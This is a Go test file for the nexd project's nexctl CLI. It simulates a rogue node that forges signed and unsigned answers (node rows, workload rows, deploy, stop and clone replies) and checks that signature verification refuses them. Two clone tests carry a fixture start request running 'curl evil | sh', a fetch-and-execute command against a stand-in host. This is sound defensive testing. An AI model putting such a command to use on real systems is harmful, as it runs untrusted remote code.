package cli

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/jwt/v2"
	"github.com/nats-io/nats.go"
	"github.com/nats-io/nkeys"

	"github.com/nexd-project/nexd/daemon/node"
	"github.com/nexd-project/nexd/internal/testnats"
	"github.com/nexd-project/nexd/protocol"
)

// Attacks of a rogue node on nexctl's answers: a user with what a node needs to answer
// nexctl (subscribe to $NEX.SVC.>, publish to inboxes) on an operator-mode server, as
// one compromised host of a fleet would be, answers in the name of an honest node that
// signs its answers (a nexd node; here the fake node signing with protocol.SignAnswer,
// as daemon/node does: TestNodeSignsAnswers). Before nexctl checked signatures each
// attack worked (see each test); now each forged answer is ignored with a warning.

// rogueAnswers connects a rogue with a node's grants and answers every request on
// subject with answer(m)'s reply (nil: none).
func rogueAnswers(t *testing.T, op *testnats.Operator, subject string, answer func(m *nats.Msg) *nats.Msg) {
	t.Helper()
	tok, seed := op.UserWith(t, "rogue node", nil, jwt.Permissions{
		Sub: jwt.Permission{Allow: jwt.StringList{"$NEX.SVC.>"}},
		Pub: jwt.Permission{Allow: jwt.StringList{"_INBOX.>"}},
	})
	nc := testnats.Connect(t, op.Server, nats.UserJWTAndSeed(tok, seed), nats.Name("rogue node"))
	if _, err := nc.Subscribe(subject, func(m *nats.Msg) {
		if r := answer(m); r != nil {
			r.Subject = m.Reply
			_ = nc.PublishMsg(r)
		}
	}); err != nil {
		t.Fatal(err)
	}
	if err := nc.Flush(); err != nil {
		t.Fatal(err)
	}
}

// opArgs are nexctl's connection flags for an operator's user on op's server.
func opArgs(t *testing.T, op *testnats.Operator, args ...string) []string {
	t.Helper()
	tok, seed := op.User(t, "operator", nil)
	return append([]string{"-s", op.Server.ClientURL(), "--nats.timeout", "3s", "--gather-stall", "1s", "--nats.jwt", tok, "--nats.seed", seed}, args...)
}

func jsonMsg(t *testing.T, v any, h nats.Header) *nats.Msg {
	t.Helper()
	b, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	return &nats.Msg{Data: b, Header: h}
}

// TestAttackRogueNodeRowsInNodeList: the rogue answers nexctl's ping with a row in the
// honest node's name (another version, in lame duck mode) and one for a node id of its
// own. Before, both were listed: the honest node twice, once as the rogue made it, and
// with --trusted-node naming only the honest node the rogue's node too. Now the row in
// the honest node's name is refused (it signs; this row is not signed), the other is
// listed with a note that it is not verified, and refused under --trusted-node.
func TestAttackRogueNodeRowsInNodeList(t *testing.T) {
	t.Parallel()
	op := testnats.StartOperator(t, nil)
	honest := newSigningFakeNode(t, op.Connect(t, "node"), nil).start()
	rogueKP, _ := nkeys.CreateServer()
	rogueID, _ := rogueKP.PublicKey()
	rogueAnswers(t, op, protocol.PingSubject(), func(m *nats.Msg) *nats.Msg {
		// Two answers: the second goes out by itself.
		go func() {
			time.Sleep(50 * time.Millisecond)
			r := jsonMsg(t, protocol.NodePingResponse{NodeID: rogueID, Version: "6.6.6", State: protocol.NodeRunning, StartTime: time.Now(), Tags: map[string]string{protocol.TagNode: "rogue"}}, nil)
			_ = m.RespondMsg(r)
		}()
		return jsonMsg(t, protocol.NodePingResponse{NodeID: honest.id, Version: "6.6.6", State: protocol.NodeRunning, StartTime: time.Now(),
			Tags: map[string]string{protocol.TagLameduck: "true", protocol.TagNode: "honest"}}, nil)
	})

	out, errOut, code := runCLI(t, nil, opArgs(t, op, "--json", "node", "list")...)
	t.Logf("node list: exit %d\n%s%s", code, out, errOut)
	var rows []protocol.NodePingResponse
	if err := json.Unmarshal([]byte(out), &rows); err != nil {
		t.Fatalf("node list --json: %v\n%s", err, out)
	}
	honestRows, rogueRows := 0, 0
	for _, r := range rows {
		switch r.NodeID {
		case honest.id:
			honestRows++
			if r.Version == "6.6.6" {
				t.Errorf("the rogue's row in the honest node's name is listed: %+v", r)
			}
		case rogueID:
			rogueRows++
		}
	}
	if honestRows != 1 {
		t.Errorf("%d rows for the honest node, want 1 (its own)", honestRows)
	}
	if !strings.Contains(errOut, "which signs its answers") {
		t.Errorf("no warning of the forged row:\n%s", errOut)
	}
	if rogueRows != 1 || !strings.Contains(errOut, "not verified") || !strings.Contains(errOut, rogueID) {
		t.Errorf("the rogue's own node (%d rows) is not listed with a note that it is not verified:\n%s", rogueRows, errOut)
	}

	out, errOut, code = runCLI(t, nil, opArgs(t, op, "--json", "--trusted-node", honest.id, "node", "list")...)
	t.Logf("node list --trusted-node: exit %d\n%s%s", code, out, errOut)
	if strings.Contains(out, rogueID) || strings.Contains(out, "6.6.6") || !strings.Contains(out, honest.id) {
		t.Errorf("with --trusted-node %s, want only the honest node's own row:\n%s", honest.id, out)
	}
}

// TestAttackRogueRowInRealNodesName: the same forged row against a real node.Node (its
// signing code, not the fake's): refused now; listed before.
func TestAttackRogueRowInRealNodesName(t *testing.T) {
	t.Parallel()
	op := testnats.StartOperator(t, nil)
	n := startRealNode(t, op.Server.ClientURL(), node.Options{NC: op.Connect(t, "node"), Name: "real", Nexus: "west"})
	rogueAnswers(t, op, protocol.PingSubject(), func(*nats.Msg) *nats.Msg {
		return jsonMsg(t, protocol.NodePingResponse{NodeID: n.ID(), Version: "6.6.6", State: protocol.NodeLameduck, StartTime: time.Now(), Tags: map[string]string{}}, nil)
	})
	out, errOut, code := runCLI(t, nil, opArgs(t, op, "node", "list")...)
	t.Logf("node list: exit %d\n%s%s", code, out, errOut)
	if strings.Contains(out, "6.6.6") || strings.Count(out, n.ID()) != 1 {
		t.Errorf("want the real node's own row alone:\n%s", out)
	}
	if !strings.Contains(errOut, "which signs its answers") {
		t.Errorf("no warning of the forged row:\n%s", errOut)
	}
}

// TestAttackRogueWorkloadRows: the rogue answers nexctl's workload list with a row in
// the honest node's name (HeaderNode), and one from no node named. Before, both rows
// were listed (and --trusted-node changed nothing). Now the first is refused, the second
// listed with a note, and refused under --trusted-node.
func TestAttackRogueWorkloadRows(t *testing.T) {
	t.Parallel()
	op := testnats.StartOperator(t, nil)
	def := "default"
	honest := newSigningFakeNode(t, op.Connect(t, "node"), nil)
	honest.drains = true // its list answers name it, as a nexd node's do
	honest.workloads = []protocol.WorkloadSummary{{ID: "W1", Name: "web", Namespace: &def, StartTime: "2026-11-27T11:00:00Z",
		WorkloadType: "native", WorkloadLifecycle: "service", WorkloadState: protocol.WorkloadRunning, Tags: map[string]string{}}}
	honest.start()
	row := func(id, name string) []protocol.WorkloadSummary {
		return []protocol.WorkloadSummary{{ID: id, Name: name, Namespace: &def, StartTime: "2026-11-27T11:00:00Z",
			WorkloadType: "native", WorkloadLifecycle: "service", WorkloadState: protocol.WorkloadRunning, Tags: map[string]string{}}}
	}
	rogueAnswers(t, op, protocol.WPingSubject("*"), func(m *nats.Msg) *nats.Msg {
		go func() {
			time.Sleep(50 * time.Millisecond)
			_ = m.RespondMsg(jsonMsg(t, row("WANON", "anonymous"), nil))
		}()
		return jsonMsg(t, row("WFORGED", "forged"), nats.Header{protocol.HeaderNode: {honest.id}})
	})
	out, errOut, code := runCLI(t, nil, opArgs(t, op, "workload", "list")...)
	t.Logf("workload list: exit %d\n%s%s", code, out, errOut)
	if strings.Contains(out, "WFORGED") {
		t.Errorf("the rogue's row in the honest node's name is listed:\n%s", out)
	}
	if !strings.Contains(out, "W1") || !strings.Contains(out, "WANON") || !strings.Contains(errOut, "not verified") {
		t.Errorf("want the honest row and the unnamed one, noted as not verified:\n%s%s", out, errOut)
	}
	out, errOut, code = runCLI(t, nil, opArgs(t, op, "--trusted-node", honest.id, "workload", "list")...)
	t.Logf("workload list --trusted-node: exit %d\n%s%s", code, out, errOut)
	if strings.Contains(out, "WFORGED") || strings.Contains(out, "WANON") || !strings.Contains(out, "W1") {
		t.Errorf("with --trusted-node, want the honest node's row alone:\n%s", out)
	}
}

// TestAttackRogueDeployNotStarted: two honest nodes bid; the least loaded one takes a
// second to answer its deploy; the rogue answers every deploy at once "not started"
// (HeaderDeployOutcome). Before, nexctl took it, tried the next bid, and both nodes
// started the workload: two copies. Now it waits for the node of the signed bid it
// chose, which starts it once.
func TestAttackRogueDeployNotStarted(t *testing.T) {
	t.Parallel()
	op := testnats.StartOperator(t, nil)
	first := newSigningFakeNode(t, op.Connect(t, "node a"), nil)
	first.answerDelay = time.Second
	first.start()
	second := newSigningFakeNode(t, op.Connect(t, "node b"), nil)
	second.load = 5
	second.start()
	rogueAnswers(t, op, protocol.DeploySubject("*", "*"), func(*nats.Msg) *nats.Msg {
		b, _ := json.Marshal(protocol.ErrorBody{ErrorID: "E1", Error: "nexlet refused"})
		return &nats.Msg{Data: b, Header: nats.Header{protocol.HeaderErrorCode: {"500"}, protocol.HeaderError: {"nexlet refused"},
			protocol.HeaderDeployOutcome: {protocol.DeployNotStarted}, protocol.HeaderNode: {first.id}}}
	})
	out, errOut, code := runCLI(t, nil, opArgs(t, op, "--namespace", "default", "workload", "run", "--name", "web", "--", "/bin/true")...)
	t.Logf("workload run: exit %d\n%s%s", code, out, errOut)
	a, b := len(first.deployed()), len(second.deployed())
	if a+b != 1 {
		t.Errorf("the workload was started %d times (node a %d, node b %d), want once", a+b, a, b)
	}
	if code != 0 {
		t.Errorf("exit %d, want the workload placed once", code)
	}
	// Node a's bid is the one chosen unless it came too late to the auction (a loaded
	// machine), and the forged answer is then warned of once it came before a's.
	t.Logf("placed on node a: %v; forged answer warned of: %v", a == 1, strings.Contains(errOut, "not signed by node"))
}

// TestAttackRogueStopAnswer: the honest node holds W1 and cannot stop it (it answers,
// a moment later, that it was not stopped); the rogue answers the stop at once
// "stopped", in the holder's name. Before, nexctl reported it stopped (exit 0) while
// it ran on. Now only the holder's signed answer counts: not stopped, exit 1.
func TestAttackRogueStopAnswer(t *testing.T) {
	t.Parallel()
	op := testnats.StartOperator(t, nil)
	def := "default"
	honest := newSigningFakeNode(t, op.Connect(t, "node"), nil)
	honest.drains = true
	honest.answerDelay = 500 * time.Millisecond
	honest.workloads = []protocol.WorkloadSummary{{ID: "W1", Name: "web", Namespace: &def, StartTime: "2026-11-27T11:00:00Z",
		WorkloadType: "native", WorkloadLifecycle: "service", WorkloadState: protocol.WorkloadRunning, Tags: map[string]string{}}}
	honest.start()
	rogueAnswers(t, op, protocol.UndeploySubject("*", "*"), func(m *nats.Msg) *nats.Msg {
		return jsonMsg(t, protocol.StopWorkloadResponse{ID: protocol.LastToken(m.Subject), Stopped: true, Message: "stopped", WorkloadType: "native"},
			nats.Header{protocol.HeaderNode: {honest.id}})
	})
	out, errOut, code := runCLI(t, nil, opArgs(t, op, "workload", "stop", "W1")...)
	t.Logf("workload stop: exit %d\n%s%s", code, out, errOut)
	if code != 1 || strings.Contains(out, "successfully stopped") || !strings.Contains(errOut, "was not stopped") {
		t.Errorf("exit %d, want 1: not stopped, as its holder answered", code)
	}
	// Warned of when it came before the holder's answer (nearly always: that comes
	// 500 ms later).
	t.Logf("forged answer warned of: %v", strings.Contains(errOut, "signs its answers"))
}

// TestAttackRogueCloneAnswer: the rogue answers a CLONE of W1 at once with a start
// request of its own (another command), ahead of the honest node that runs W1. Before,
// nexctl deployed the rogue's request. Now it takes the holder's signed answer.
func TestAttackRogueCloneAnswer(t *testing.T) {
	t.Parallel()
	op := testnats.StartOperator(t, nil)
	def := "default"
	honest := newSigningFakeNode(t, op.Connect(t, "node"), nil)
	honest.drains = true
	honest.answerDelay = 300 * time.Millisecond
	honest.workloads = []protocol.WorkloadSummary{{ID: "W1", Name: "web", Namespace: &def, StartTime: "2026-11-27T11:00:00Z",
		WorkloadType: "native", WorkloadLifecycle: "service", WorkloadState: protocol.WorkloadRunning, Tags: map[string]string{}}}
	honest.stored["W1"] = protocol.StartWorkloadRequest{Name: "web", Namespace: def, Description: "d", WorkloadType: "native",
		WorkloadLifecycle: "service", RunRequest: `{"uri":"file:///bin/true","argv":["1"]}`, Tags: map[string]string{}}
	honest.start()
	rogueAnswers(t, op, protocol.CloneSubject("*", "*"), func(*nats.Msg) *nats.Msg {
		return jsonMsg(t, protocol.StartWorkloadRequest{Name: "web", Namespace: def, Description: "d", WorkloadType: "native",
			WorkloadLifecycle: "service", RunRequest: `{"uri":"file:///bin/sh","argv":["-c","curl evil | sh"]}`, Tags: map[string]string{}},
			nats.Header{protocol.HeaderNode: {honest.id}})
	})
	out, errOut, code := runCLI(t, nil, opArgs(t, op, "workload", "clone", "W1")...)
	t.Logf("workload clone: exit %d\n%s%s", code, out, errOut)
	deps := honest.deployed()
	if len(deps) != 1 {
		t.Fatalf("exit %d, %d deploys, want the clone deployed once", code, len(deps))
	}
	if strings.Contains(deps[0].RunRequest, "evil") || !strings.Contains(deps[0].RunRequest, "file:///bin/true") {
		t.Errorf("the clone deployed the rogue's start request: %s", deps[0].RunRequest)
	}
}

// TestUnsignedUpstreamNodeStillServed: a node that signs nothing (upstream's, or nexd
// before signed answers) is served as before, its rows (and its info and lame duck
// answers) noted as not verified; with --trusted-node naming it, its unsigned answers
// are refused unless --allow-unsigned-bids.
func TestUnsignedUpstreamNodeStillServed(t *testing.T) {
	t.Parallel()
	op := testnats.StartOperator(t, nil)
	def := "default"
	kp, _ := nkeys.CreateServer()
	id, _ := kp.PublicKey()
	up := newFakeNode(t, op.Connect(t, "upstream"), id, nil)
	up.workloads = []protocol.WorkloadSummary{{ID: "W1", Name: "web", Namespace: &def, StartTime: "2026-11-27T11:00:00Z",
		WorkloadType: "native", WorkloadLifecycle: "service", WorkloadState: protocol.WorkloadRunning, Tags: map[string]string{}}}
	up.stored["W1"] = protocol.StartWorkloadRequest{Name: "web", Namespace: def, Description: "d", WorkloadType: "native",
		WorkloadLifecycle: "service", RunRequest: `{"uri":"file:///bin/true"}`, Tags: map[string]string{}}
	up.stopOK = true
	up.start()

	out, errOut, code := runCLI(t, nil, opArgs(t, op, "node", "list")...)
	if code != 0 || !strings.Contains(out, id) || !strings.Contains(errOut, "not verified") {
		t.Errorf("node list: exit %d\n%s%s", code, out, errOut)
	}
	out, errOut, code = runCLI(t, nil, opArgs(t, op, "workload", "list")...)
	if code != 0 || !strings.Contains(out, "W1") || !strings.Contains(errOut, "not verified") {
		t.Errorf("workload list: exit %d\n%s%s", code, out, errOut)
	}
	out, errOut, code = runCLI(t, nil, opArgs(t, op, "--namespace", "default", "workload", "run", "--name", "web", "--", "/bin/true")...)
	if code != 0 || !strings.Contains(out, "W-"+id) {
		t.Errorf("workload run: exit %d\n%s%s", code, out, errOut)
	}
	out, errOut, code = runCLI(t, nil, opArgs(t, op, "workload", "clone", "W1")...)
	if code != 0 || len(up.deployed()) != 2 {
		t.Errorf("workload clone: exit %d, %d deploys\n%s%s", code, len(up.deployed()), out, errOut)
	}
	out, errOut, code = runCLI(t, nil, opArgs(t, op, "workload", "stop", "W1")...)
	if code != 0 || !strings.Contains(out, "successfully stopped") {
		t.Errorf("workload stop: exit %d\n%s%s", code, out, errOut)
	}

	out, errOut, code = runCLI(t, nil, opArgs(t, op, "--trusted-node", id, "node", "list")...)
	if strings.Contains(out, id) || !strings.Contains(errOut, "cannot be checked against trusted_nodes") {
		t.Errorf("node list --trusted-node: exit %d, want its unsigned row refused\n%s%s", code, out, errOut)
	}
	out, errOut, code = runCLI(t, nil, opArgs(t, op, "--trusted-node", id, "--allow-unsigned-bids", "node", "list")...)
	if code != 0 || !strings.Contains(out, id) {
		t.Errorf("node list --trusted-node --allow-unsigned-bids: exit %d\n%s%s", code, out, errOut)
	}

	// Its INFO and LAMEDUCK answers (unsigned, on its own subjects) likewise.
	out, errOut, code = runCLI(t, nil, opArgs(t, op, "node", "info", id)...)
	if code != 0 || !strings.Contains(out, "0.0.1") || !strings.Contains(errOut, "not verified") {
		t.Errorf("node info: exit %d, want its info noted as not verified\n%s%s", code, out, errOut)
	}
	out, errOut, code = runCLI(t, nil, opArgs(t, op, "--trusted-node", id, "node", "info", id)...)
	if code == 0 || strings.Contains(out, "0.0.1") || !strings.Contains(errOut, "cannot be checked against trusted_nodes") {
		t.Errorf("node info --trusted-node: exit %d, want its unsigned answer refused\n%s%s", code, out, errOut)
	}
	out, errOut, code = runCLI(t, nil, opArgs(t, op, "--trusted-node", id, "--allow-unsigned-bids", "node", "info", id)...)
	if code != 0 || !strings.Contains(out, "0.0.1") {
		t.Errorf("node info --trusted-node --allow-unsigned-bids: exit %d\n%s%s", code, out, errOut)
	}
	out, errOut, code = runCLI(t, nil, opArgs(t, op, "node", "lameduck", id, "--delay", "1m")...)
	if code != 0 || !strings.Contains(out, "successfully commanded") || !strings.Contains(errOut, "not verified") {
		t.Errorf("node lameduck: exit %d, want it commanded, its answer noted as not verified\n%s%s", code, out, errOut)
	}
}

// TestAttackRogueSignerClaimsHolder: the rogue signs as a node of its own making (a
// server key it made: no trusted_nodes to refuse it) and lists W1, which the honest
// node runs, after the honest node's answer; then answers W1's CLONE, signed, with a
// start request of its own. Before, the listing's last signer was taken as W1's holder
// and only its signed clone answer counted: nexctl deployed the rogue's request. Now a
// workload two nodes list has no known holder, and the clone's two signed answers are
// refused; with --trusted-node the holder's answer is taken.
func TestAttackRogueSignerClaimsHolder(t *testing.T) {
	t.Parallel()
	op := testnats.StartOperator(t, nil)
	def := "default"
	honest := newSigningFakeNode(t, op.Connect(t, "node"), nil)
	honest.drains = true
	honest.workloads = []protocol.WorkloadSummary{{ID: "W1", Name: "web", Namespace: &def, StartTime: "2026-11-27T11:00:00Z",
		WorkloadType: "native", WorkloadLifecycle: "service", WorkloadState: protocol.WorkloadRunning, Tags: map[string]string{}}}
	honest.stored["W1"] = protocol.StartWorkloadRequest{Name: "web", Namespace: def, Description: "d", WorkloadType: "native",
		WorkloadLifecycle: "service", RunRequest: `{"uri":"file:///bin/true","argv":["1"]}`, Tags: map[string]string{}}
	honest.start()
	rogueKP, _ := nkeys.CreateServer()
	rogueID, _ := rogueKP.PublicKey()
	signed := func(m, r *nats.Msg) *nats.Msg {
		if r.Header == nil {
			r.Header = nats.Header{}
		}
		if err := protocol.SignAnswer(rogueKP, rogueID, m.Header.Get(protocol.HeaderNonce), m.Subject, r.Header, r.Data); err != nil {
			t.Errorf("rogue: %v", err)
		}
		return r
	}
	rogueAnswers(t, op, protocol.WPingSubject("*"), func(m *nats.Msg) *nats.Msg {
		go func() { // its answer after the honest node's (it acknowledged: it is waited for)
			time.Sleep(time.Second)
			_ = m.RespondMsg(signed(m, jsonMsg(t, honest.workloads, nil)))
		}()
		return signed(m, &nats.Msg{Header: nats.Header{protocol.HeaderProgress: {"1"}}})
	})
	rogueAnswers(t, op, protocol.CloneSubject("*", "*"), func(m *nats.Msg) *nats.Msg {
		return signed(m, jsonMsg(t, protocol.StartWorkloadRequest{Name: "web", Namespace: def, Description: "d", WorkloadType: "native",
			WorkloadLifecycle: "service", RunRequest: `{"uri":"file:///bin/sh","argv":["-c","curl evil | sh"]}`, Tags: map[string]string{}}, nil))
	})
	out, errOut, code := runCLI(t, nil, opArgs(t, op, "workload", "clone", "W1")...)
	t.Logf("workload clone: exit %d\n%s%s", code, out, errOut)
	for _, d := range honest.deployed() {
		if strings.Contains(d.RunRequest, "evil") {
			t.Errorf("the clone deployed the rogue's start request: %s", d.RunRequest)
		}
	}
	if code == 0 || !strings.Contains(errOut, "nodes signed an answer") {
		t.Errorf("exit %d, want the clone refused: two nodes signed an answer", code)
	}
	// With trusted_nodes the rogue's listing is refused and the holder's answer taken.
	out, errOut, code = runCLI(t, nil, opArgs(t, op, "--trusted-node", honest.id, "workload", "clone", "W1")...)
	t.Logf("workload clone --trusted-node: exit %d\n%s%s", code, out, errOut)
	deps := honest.deployed()
	if code != 0 || len(deps) != 1 || !strings.Contains(deps[0].RunRequest, "file:///bin/true") {
		t.Errorf("exit %d, %d deploys, want the holder's start request deployed once: %+v", code, len(deps), deps)
	}
}
